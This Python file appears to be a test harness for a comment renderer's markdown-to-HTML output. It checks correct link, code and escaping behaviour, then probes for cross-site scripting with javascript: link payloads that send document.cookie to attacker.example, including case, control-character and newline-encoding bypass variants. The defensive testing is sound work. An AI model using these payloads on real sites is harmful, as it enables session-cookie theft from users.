from datetime import UTC, datetime

from page import scripts_of, tags_of


def render(code, source):
    comment = code.Comment(12, "Ada <ada@example.com>", datetime(2026, 1, 5, tzinfo=UTC), source)
    return code.render_comment(comment)


def works(code):
    html = render(code, "See [the guide](https://example.com/guide?a=1&b=2), `a<b>` and\nask @grace-h.\n\n<b>Bye</b>")
    tags = tags_of(html)
    links = [(tag["attributes"]["href"], tag["text"]) for tag in tags if tag["name"] == "a"]
    assert links == [("https://example.com/guide?a=1&b=2", "the guide"), ("/people/grace-h", "@grace-h")], links
    assert [tag["text"] for tag in tags if tag["name"] == "code"] == ["a<b>"]
    assert len([tag for tag in tags if tag["name"] == "p"]) == 2
    assert "&lt;b&gt;Bye" in html
    assert "Ada &lt;ada@example.com&gt;" in html


STEAL = "location='https://attacker.example/?'+document.cookie"
FORMS = (
    f"javascript:{STEAL}",
    f"JavaScript:{STEAL}",
    f"\x01javascript:{STEAL}",
    f"javascript://example.com/%0a{STEAL}",
)


def exploit(code, vary=None, payloads=FORMS):
    for target in payloads:
        scripts = scripts_of(render(code, f"See the [release notes]({target})"))
        if any(script.endswith("document.cookie") for script in scripts):
            return True
    return False
